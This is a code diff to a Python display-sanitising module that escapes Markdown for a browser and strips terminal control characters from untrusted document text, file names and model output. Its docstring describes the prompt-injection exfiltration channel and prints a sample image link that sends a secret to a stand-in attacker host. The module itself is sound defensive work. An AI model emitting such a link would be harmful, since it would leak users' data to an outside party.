@@ -1,4 +1,5 @@
-"""Markdown for text Folio did not write: document text, file names, model output.
+"""Display of text Folio did not write (document text, file names, model output): Markdown for the browser,
+plain text for the terminal.
 
 Streamlit renders Markdown, so text from a document or a model could make the browser fetch an image chosen by
 that text (`![x](https://attacker/?secret=…)`: the prompt-injection exfiltration channel), show a link, raw HTML
@@ -10,12 +11,19 @@ from __future__ import annotations
 
 import re
 
+_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # C0 and C1 controls, except tab and newline
 _SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>$~&:=^])")
 _IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])?")
 _LINK = re.compile(r"\[([^\]\n]*)\]\s*\(\s*<?([^)\s>]*)>?[^)\n]*\)")
 _REFERENCE_DEFINITION = re.compile(r"^ {0,3}\[([^\]\n]+)\]:", re.MULTILINE)
 _ANGLE_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]*:|www\.)[^>\s]*)>", re.IGNORECASE)
 _BARE_URL = re.compile(r"(?i)\b([a-z][a-z0-9+.-]*):(?=//)|\b(www)\.")
+
+
+def printable(text: str) -> str:
+    """`text` without control characters, for a terminal: a file name, document text or model output cannot
+    move the cursor, change colours or retitle the window with an escape sequence."""
+    return _CONTROL.sub("", text)
 
 
 def literal(text: str) -> str:
